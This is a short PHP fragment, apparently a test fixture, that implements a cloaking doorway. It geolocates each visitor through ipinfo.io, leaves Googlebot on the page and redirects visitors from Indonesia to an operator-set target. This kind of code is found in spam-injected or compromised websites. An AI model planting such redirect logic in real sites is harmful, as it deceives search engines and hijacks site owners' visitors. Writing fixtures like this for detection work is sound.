<?php
// a doorway: crawlers stay, visitors of one country are sent to the operator's page
// (written for the tests, never run)
$r = json_decode(file_get_contents('https://ipinfo.io/' . $_SERVER['REMOTE_ADDR'] . '/json'), true);
$country = $r['country'] ?? '';
$ua = strtolower($_SERVER['HTTP_USER_AGENT']);
if (strpos($ua, 'googlebot') === false && $country == 'ID') {
    header('Location: ' . $target);
    exit;
}
